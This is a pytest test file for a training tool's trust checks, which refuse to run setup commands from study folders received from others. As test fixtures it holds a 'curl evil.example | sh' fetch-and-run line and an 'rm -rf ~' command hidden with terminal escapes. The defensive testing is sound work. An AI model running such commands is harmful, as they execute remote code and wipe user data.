"""What a study of somebody else would have run here is named, and runs only where it is trusted."""

import json
import os
import shutil
from pathlib import Path

import pytest

from isoflop.errors import Notice, RefusedError
from isoflop.runs.engines.olmo import OlmoSettings
from isoflop.runs.engines.ray import RaySettings
from isoflop.runs.engines.slurm_settings import SlurmSettings
from isoflop.study import StudyFolder, begin_or_resume, read_settings
from isoflop.study.trust import check_trust, commands_of, is_own, remember

from .tiny import call, refused

SETUP = '\n[slurm]\npartition = "small"\nsetup = ["module load python", "curl evil.example | sh"]\n'
RAY = '\n[ray]\naddress = "203.0.113.7:6379"\n'


@pytest.fixture(autouse=True)
def state(tmp_path, monkeypatch) -> Path:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return tmp_path / "state" / "isoflop"


@pytest.fixture
def own(tmp_path) -> StudyFolder:
    """A study that was begun here."""
    folder = StudyFolder(tmp_path / "own")
    begin_or_resume(folder, {"flops": 3e12})
    return folder


def appended(folder: StudyFolder, text: str) -> StudyFolder:
    with open(folder.settings, "a") as file:
        file.write(text)
    return folder


def received(own: StudyFolder, target: Path) -> StudyFolder:
    """The same study as somebody else would send it: nothing of this user's own folder comes along."""
    shutil.copytree(own.path, target)
    return StudyFolder(target)


def test_a_study_begun_here_is_ones_own_and_a_copy_is_not(own, tmp_path):
    assert is_own(own.path)
    assert not is_own(received(own, tmp_path / "received").path)


def test_another_folder_in_its_place_is_another(own, tmp_path):
    shutil.copytree(own.path, tmp_path / "sent")
    own.path.rename(tmp_path / "moved")
    (tmp_path / "sent").rename(own.path)
    assert not is_own(own.path)
    assert not is_own(tmp_path / "moved")
    (tmp_path / "way").symlink_to(tmp_path / "moved")
    remember(tmp_path / "way")
    assert is_own(tmp_path / "moved")


def test_the_record_is_private_and_anything_else_there_is_no_trust(own, state):
    (entry,) = (state / "trusted").iterdir()
    assert json.loads(entry.read_text())["path"] == str(own.path.resolve())
    assert (state / "trusted").stat().st_mode & 0o777 == 0o700
    for content in ("", "[]", "{}", '{"path": 3, "folder": 3}'):
        entry.write_text(content)
        assert not is_own(own.path)


def test_only_the_engine_that_is_used_counts(own):
    tables = {"slurm": SlurmSettings(setup=("x",)), "ray": RaySettings(address="auto")}
    assert commands_of("local", tables) == {}
    assert list(commands_of("slurm", tables)) == ["slurm"]
    assert list(commands_of("ray", tables)) == ["ray"]
    assert list(commands_of("olmo", {**tables, "olmo": OlmoSettings(where="slurm")})) == ["slurm"]
    assert commands_of("slurm", {"slurm": SlurmSettings(partition="a", minutes=9, cluster="local")}) == {}
    assert commands_of("ray", {"ray": RaySettings(cpus=2)}) == {}


@pytest.mark.parametrize(
    ("engine", "table", "named"),
    [
        ("slurm", SETUP, ['"module load python"', '"curl evil.example | sh"']),
        ("ray", RAY, ['"203.0.113.7:6379"']),
    ],
)
@pytest.mark.parametrize("verb", ["run", "study", "sweep"])
def test_a_received_study_is_refused_with_all_that_it_would_run(own, tmp_path, engine, table, named, verb):
    folder = appended(received(own, tmp_path / "received"), table)
    more = ("--go",) if verb == "sweep" else ()
    said = refused(verb, folder.path, "--engine", engine, *more, code=3)
    assert "not begun here by you, and it would run what is not isoflop's" in said
    for words in (*named, "give --trust once", "--engine local trains here without any of it"):
        assert words in said
    assert not (folder.path / "logs").exists()
    assert not (folder.path / "corpus").exists()


def test_trusted_once_it_runs_and_what_runs_is_named_each_time(own, tmp_path):
    folder = appended(received(own, tmp_path / "received"), SETUP)
    commands = commands_of("slurm", read_settings(folder).engines)["slurm"]
    said: list[Notice] = []
    with pytest.raises(RefusedError) as caught:
        check_trust(folder.path, commands, said.append)
    assert (caught.value.code, said) == ("untrusted_commands", [])
    for trust in (True, False):
        check_trust(folder.path, commands, said.append, trust=trust)
    assert [notice.code for notice in said] == ["runs_commands"] * 4
    assert f'{folder.path} has this run: [slurm] setup, in every job: "module load python"' == said[0].message


def test_ones_own_study_may_be_edited_and_needs_no_flag(own):
    appended(own, SETUP)
    said = call("run", own.path, "--engine", "slurm").stderr
    assert "no runs are designed yet" in said
    assert 'has this run: [slurm] setup, in every job: "curl evil.example | sh" [runs_commands]' in " ".join(
        said.split()
    )


def test_trust_is_an_option_of_all_that_train(own, tmp_path):
    folder = appended(received(own, tmp_path / "received"), RAY)
    assert "no runs are designed yet" in refused("run", folder.path, "--engine", "ray", "--trust")
    assert "no runs are designed yet" in refused("run", folder.path, "--engine", "ray")
    for verb in ("study", "sweep", "run", "launch"):
        assert "--trust" in call(verb, "--help").stdout


def test_a_moved_study_is_trusted_with_one_flag(own, tmp_path):
    appended(own, SETUP)
    own.path.rename(tmp_path / "elsewhere")
    assert "that was moved" in refused("run", tmp_path / "elsewhere", "--engine", "slurm", code=3)
    assert "no runs are designed" in refused("run", tmp_path / "elsewhere", "--engine", "slurm", "--trust")
    assert "no runs are designed" in refused("run", tmp_path / "elsewhere", "--engine", "slurm")


def test_a_received_study_without_commands_needs_no_trust(own, tmp_path):
    folder = appended(received(own, tmp_path / "received"), '\n[slurm]\npartition = "small"\n')
    assert "no runs are designed yet" in refused("run", folder.path, "--engine", "slurm")


def test_a_plan_made_here_is_ones_own_and_a_received_one_is_not(tmp_path):
    plan = tmp_path / "here" / "plan.toml"
    plan.parent.mkdir()
    made = call(
        "plan", "--law", "besiroglu2024", "--flops", "1e14", "--family", "llama", "--vocab", "257", "--out", plan
    )
    assert made.exit_code == 0, made.stderr
    assert is_own(plan)
    other = tmp_path / "downloads" / "plan.toml"
    other.parent.mkdir()
    other.write_text(plan.read_text() + SETUP)
    said = refused("run", other, "--engine", "slurm", code=3)
    assert '"curl evil.example | sh"' in said
    assert not (other.parent / "plan").exists()
    # an editor puts another file in the place of the old one
    (plan.parent / "edited").write_text(plan.read_text() + SETUP)
    os.replace(plan.parent / "edited", plan)
    assert is_own(plan)


def test_terminal_escapes_in_commands_are_shown_and_not_obeyed(own, tmp_path):
    folder = appended(received(own, tmp_path / "received"), '\n[slurm]\nsetup = ["rm -rf ~ \\u001b[2K\\u001b[1A"]\n')
    said = refused("run", folder.path, "--engine", "slurm", code=3)
    assert ("\x1b" in said, "\\u001b[2K" in said) == (False, True)


def test_a_home_that_takes_no_files_keeps_nobody_from_a_study(tmp_path, monkeypatch):
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    folder = StudyFolder(tmp_path / "study")
    begin_or_resume(folder, {"flops": 3e12})
    assert folder.settings.exists()
    assert not is_own(folder.path)


@pytest.mark.parametrize(
    "part", ["study.toml", "runs", "runs/0123456789ab", "forecasts", "fits/sweep.json", "study.db"]
)
@pytest.mark.parametrize("verb", ["status", "report", "run", "score", "study"])
def test_no_verb_takes_a_study_that_leads_out_by_a_link(own, tmp_path, part, verb):
    place = own.path / part
    place.parent.mkdir(exist_ok=True)
    if place.exists():
        place.rename(tmp_path / "outside")
    place.symlink_to(tmp_path / "outside")
    assert "is a link to" in refused(verb, own.path)
    assert not (own.path / "report.html").exists()
